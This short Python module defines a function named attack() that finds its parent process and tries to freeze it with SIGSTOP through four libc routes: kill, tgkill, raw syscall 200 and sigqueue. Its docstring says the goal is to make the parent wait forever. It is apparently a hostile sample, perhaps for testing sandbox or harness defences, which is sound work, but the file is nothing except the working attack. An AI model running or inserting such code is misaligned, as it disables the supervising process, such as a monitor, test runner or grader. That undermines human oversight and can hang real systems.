"""Stops its parent, so that it waits for ever, also by a thread's number."""

import ctypes
import os
import signal


def attack():
    parent = os.getppid()
    libc = ctypes.CDLL(None)
    if parent < 2:
        return False
    calls = [lambda: libc.kill(parent, signal.SIGSTOP), lambda: libc.tgkill(parent, parent, 19)]
    calls.append(lambda: libc.syscall(200, parent, 19))
    calls.append(lambda: libc.sigqueue(parent, 19, None))
    return any(call() == 0 for call in calls)
